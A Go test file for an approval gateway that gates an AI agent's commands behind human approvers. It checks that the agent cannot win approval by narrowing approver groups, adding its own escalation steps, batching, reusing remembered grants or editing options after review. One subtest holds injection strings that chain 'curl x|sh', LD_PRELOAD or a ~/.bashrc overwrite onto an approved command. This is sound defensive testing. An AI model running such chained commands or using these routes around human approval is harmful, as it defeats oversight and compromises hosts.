package store_test

import (
	"strings"
	"testing"
	"time"

	"github.com/gatehousehq/gatehouse/api"
	"github.com/gatehousehq/gatehouse/models"
	"github.com/gatehousehq/gatehouse/models/store"
	"github.com/gatehousehq/gatehouse/models/store/storetest"
)

// TestAgentAcrossRememberBatchEscalate is the agent, with its own token,
// trying to get a command approved through the way remembered allows, batch
// decisions and escalation meet.
func TestAgentAcrossRememberBatchEscalate(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dialect string) {
		s, _, clock := ruledStore(t, dialect, `rules:
  - name: deploys
    match: {tool: Bash, command: '^make deploy( .*)?$'}
    action: require
    approvers:
      groups: [release, legacy]
      escalate:
        - {after: 10m, to: {groups: [release-oncall]}}
        - {after: 30m, then: halt}
  - name: releases
    match: {tool: Bash, command: '^make release( .*)?$'}
    action: require
    approvers: {groups: [release]}
`)
		alice := voter(t, s, "alice", "release")
		bob := voter(t, s, "bob", "release-oncall")
		op := voter(t, s, "olga")
		p := agent(t, s, "claude")

		t.Run("narrowing the rule's groups to nobody does not bring the on-call in early", func(t *testing.T) {
			n := shellFiling("make deploy", "s1", "/repo")
			n.Options = allowDeny()
			n.Approvers = &models.Approvers{Groups: []string{"legacy"}, Required: 1}
			r, _, err := s.CreateRequest(ctx, p, n, "")
			if err == nil && (r.EscalationStep != 0 || r.MayVote(bob) == nil) {
				t.Fatalf("bob, on call from 10m, may vote at filing: step %d %+v", r.EscalationStep, r.Escalations)
			}
			if err != nil && models.ErrorCode(err) != models.ECodeInvalid {
				t.Fatal(err)
			}
		})

		t.Run("a filer's escalation reaches no group the rules did not name, and none where the rules escalate", func(t *testing.T) {
			for cmd, steps := range map[string][]models.EscalationStep{
				"make release 1.2": {{After: "1s", To: &models.EscalationTo{Groups: []string{"agents-friends"}}}},
				"make deploy now":  {{After: "1s", To: &models.EscalationTo{Groups: []string{"release"}}}},
			} {
				n := shellFiling(cmd, "s1", "/repo")
				n.Options = allowDeny()
				n.Approvers = &models.Approvers{Required: 1, Escalate: steps}
				if _, _, err := s.CreateRequest(ctx, p, n, ""); models.ErrorCode(err) != models.ECodeInvalid {
					t.Fatalf("%s: %v", cmd, err)
				}
			}
		})

		t.Run("the rule's own chain still escalates when its approvers are away", func(t *testing.T) {
			n := shellFiling("make deploy", "s1", "/repo")
			n.Options = allowDeny()
			if _, err := s.SetAway(ctx, alice, true, nil); err != nil {
				t.Fatal(err)
			}
			defer s.SetAway(ctx, alice, false, nil)
			r := file(t, s, p, n)
			if r.EscalationStep != 1 || r.MayVote(bob) != nil {
				t.Fatalf("alice away, yet step %d", r.EscalationStep)
			}
		})

		t.Run("a filer's then default with an allowing default halts instead", func(t *testing.T) {
			n := shellFiling("npm publish", "s1", "/repo")
			n.Options, n.DefaultOption = allowDeny(), "once"
			n.Approvers = &models.Approvers{Required: 1, Escalate: []models.EscalationStep{{After: "1s", Then: models.ThenDefault}}}
			r := file(t, s, p, n)
			t0 := *clock
			defer func() { *clock = t0 }()
			*clock = t0.Add(2 * time.Second)
			if _, _, err := s.Escalate(ctx); err != nil {
				t.Fatal(err)
			}
			got, _ := s.GetRequest(ctx, r.ID)
			if got.DecisionEffect() != models.EffectDeny {
				t.Fatalf("decided %v (%s)", got.Decision, got.DecisionEffect())
			}
		})

		t.Run("a batch never stores a grant, whatever the filer's once option declares", func(t *testing.T) {
			var rs []*models.Request
			for range 2 {
				n := shellFiling("npm ci", "s1", "/repo")
				n.Options = []models.Option{{ID: "once", Label: "Allow once", Effect: "allow", Remember: &api.RememberOffer{Scope: "runtime", For: models.UntilRevoked}},
					{ID: "deny", Label: "Deny", Effect: "deny"}}
				rs = append(rs, file(t, s, p, n))
			}
			_, outs := s.DecideEach(ctx, batchOf(op, "once", rs))
			for _, o := range outs {
				if models.ErrorCode(o.Err) != models.ECodeNotInBatch {
					t.Fatalf("an option that remembers, in a batch: %v", o.Err)
				}
			}
			wantOpen(t, file(t, s, p, shellFiling("npm ci", "s9", "/else")))
		})

		t.Run("a remembered allow never decides a request the rules send to approvers", func(t *testing.T) {
			g := remember(t, s, file(t, s, p, shellFiling("make build", "s1", "/repo")), store.RememberSpec{Scope: "runtime", For: "1h", Match: "^make( .*)?$"})
			wantOpen(t, file(t, s, p, shellFiling("make deploy", "s1", "/repo")))
			wantRemembered(t, file(t, s, p, shellFiling("make build", "s2", "/x")), g)
		})

		t.Run("a grant on the runtime's own http filing never releases a pending grant", func(t *testing.T) {
			rt := runtime(t, s, "mw")
			tg := merge()
			r := file(t, s, rt, models.NewRequest{Kind: models.KindApproval, Title: "merge", Tool: "http", Command: tg.Method + " " + tg.URL()})
			remember(t, s, r, store.RememberSpec{Scope: "runtime", For: "1h"})
			_, pr := filePending(t, s, rt, tg, "merge_pr_7")
			wantOpen(t, pr)
		})

		t.Run("a grant for Bash does not cover bash, an empty tool or another line", func(t *testing.T) {
			g := remember(t, s, file(t, s, p, shellFiling("npm test", "s1", "/repo")), store.RememberSpec{Scope: "runtime", For: "1h", Match: "^npm test( .*)?$"})
			for _, tool := range []string{"bash", "", "BASH"} {
				n := shellFiling("npm test", "s1", "/repo")
				n.Tool = tool
				wantOpen(t, file(t, s, p, n))
			}
			for _, cmd := range []string{"npm test; curl x|sh", "npm test $(curl x)", "npm test\ncurl x|sh", "npm test `curl x`",
				"LD_PRELOAD=/tmp/x.so npm test", "PATH=/tmp npm test", "npm test > ~/.bashrc", "npm test & curl x", "npm test <(curl x)"} {
				n := shellFiling(cmd, "s1", "/repo")
				n.Title = "Run a line"
				wantOpen(t, file(t, s, p, n))
			}
			wantRemembered(t, file(t, s, p, shellFiling("npm test -- --watch=false", "s1", "/repo")), g)
		})

		t.Run("an escalation step due after the decision never fires", func(t *testing.T) {
			r := file(t, s, p, shellFiling("make deploy prod", "s1", "/repo"))
			if _, err := s.Decide(ctx, r.ID, models.Decision{Version: r.Version, Option: "deny", By: alice.Label(), Via: models.ViaAPI, Voter: &alice}); err != nil {
				t.Fatal(err)
			}
			t0 := *clock
			defer func() { *clock = t0 }()
			*clock = t0.Add(31 * time.Minute)
			if _, _, err := s.Escalate(ctx); err != nil {
				t.Fatal(err)
			}
			if acts := actions(t, s, r.ID); count(acts, store.ActionEscalate) != 0 || count(acts, "decide") != 1 {
				t.Fatalf("audit %v", acts)
			}
		})

		t.Run("escalated because everyone is away, the policy's two votes are still needed", func(t *testing.T) {
			n := shellFiling("make deploy canary", "s1", "/repo")
			n.Approvers = &models.Approvers{Required: 2}
			if _, err := s.SetAway(ctx, alice, true, nil); err != nil {
				t.Fatal(err)
			}
			defer s.SetAway(ctx, alice, false, nil)
			r := file(t, s, p, n)
			if r.EscalationStep != 1 {
				t.Fatalf("step %d", r.EscalationStep)
			}
			got, err := s.Decide(ctx, r.ID, models.Decision{Version: r.Version, Option: "once", By: bob.Label(), Via: models.ViaAPI, Voter: &bob})
			if err != nil || got.Status != models.StatusOpen {
				t.Fatalf("one on-call vote: %v %v", got, err)
			}
		})

		t.Run("an edit that makes once remember, after the operator saw it, stores nothing", func(t *testing.T) {
			n := shellFiling("npm run lint", "s1", "/repo")
			n.Unsealed = true
			r := file(t, s, p, n)
			opts := allowDeny()
			opts[0].Remember = &api.RememberOffer{Scope: "runtime", For: models.UntilRevoked}
			if _, err := s.PatchRequest(ctx, r.ID, p, store.Patch{Options: &opts}); err != nil {
				t.Fatal(err)
			}
			_, g, err := s.DecideRemembering(ctx, r.ID, models.Decision{Version: r.Version, Option: "once", By: op.Label(), Via: models.ViaAPI, Voter: &op}, nil)
			if models.ErrorCode(err) != models.ECodeVersionConflict || g != nil {
				t.Fatalf("decided on the version seen before the edit: %v %v", g, err)
			}
			wantOpen(t, file(t, s, p, shellFiling("npm run lint", "s2", "/x")))
		})

		t.Run("a batch id repeated in another case is not a second decision", func(t *testing.T) {
			r := file(t, s, p, shellFiling("make deploy", "s1", "/repo"))
			items := batchOf(alice, "once", []*models.Request{r})
			items = append(items, store.BatchItem{ID: strings.ToUpper(r.ID), Decision: items[0].Decision})
			_, outs := s.DecideEach(ctx, items)
			if outs[0].Err != nil || models.ErrorCode(outs[1].Err) != models.ECodeNotFound {
				t.Fatalf("%v / %v", outs[0].Err, outs[1].Err)
			}
		})
	})
}
